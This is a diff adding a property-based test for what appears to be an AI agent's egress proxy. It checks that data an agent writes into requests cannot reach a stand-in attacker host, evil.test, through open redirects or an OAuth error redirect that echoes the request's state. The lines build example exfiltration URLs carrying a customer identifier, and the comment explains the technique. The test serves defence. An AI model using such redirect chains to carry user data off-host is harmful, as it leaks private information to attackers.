@@ -165,6 +165,19 @@ t.test('through the real proxy: served spellings fetch, changed ones are refused
   const leak = `${web.origin('evil.test')}/c?d=customer-4242`;
   t.equal((await follow(`${web.origin('search.test')}/redirect?to=${encodeURIComponent(leak)}`)).status, 403, 'the Location the agent wrote into the query is refused');
   t.equal((await follow(`${web.origin('search.test')}/redirect?to=${encodeURIComponent(leak.toUpperCase())}`)).status, 403, 'in capitals too');
+  // Fifteenth pass: a redirect to another host built from a stored target and a request field —
+  // OAuth's authorize endpoint sends its errors to the redirect URI the client (an attacker's app)
+  // registered, with the request's `state` — carried the agent's data in a link the request never
+  // held whole; it was recorded as served by the allowed host and followed. Property over where
+  // the server puts the value and what the value looks like; a redirect carrying none is followed.
+  await fc.assert(fc.asyncProperty(fc.constantFrom('query', 'path', 'inside'), fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9._~-]{0,23}$/), async (put, data) => {
+    const moved = await viaCurl(moverProxy, 'GET', `${web.origin('news.test')}/oauth/authorize?client_id=app-7&response_type=bogus&put=${put}&state=${encodeURIComponent(data)}`);
+    const hop = web.hits.at(-1)!;
+    const where = { query: `/cb?error=unsupported_response_type&state=${encodeURIComponent(data)}`, path: `/cb/${encodeURIComponent(data)}`, inside: `/cb?ctx=${encodeURIComponent(`v1.${data}.sig`)}` }[put];
+    const r = await viaCurl(moverProxy, 'GET', `${web.origin('evil.test')}${where}`);
+    return moved.status === 302 && hop.host === 'news.test' && r.status === 403;
+  }), { numRuns: Math.min(numRuns, 4), ...seed });
+  t.equal((await follow(`${web.origin('news.test')}/oauth/authorize?client_id=app-7&response_type=bogus&put=none&state=customer-4242`)).status, 200, 'a redirect to another host that carries no request value is followed');
   // A click-through URL's target (in its query) is served too; the agent's own URL that an echoing
   // source wraps in one is not.
   results.push(`https://duckduckgo.example/l/?uddg=${encodeURIComponent(`${web.origin('blog.test')}/direct?id=7`)}&rut=1`);
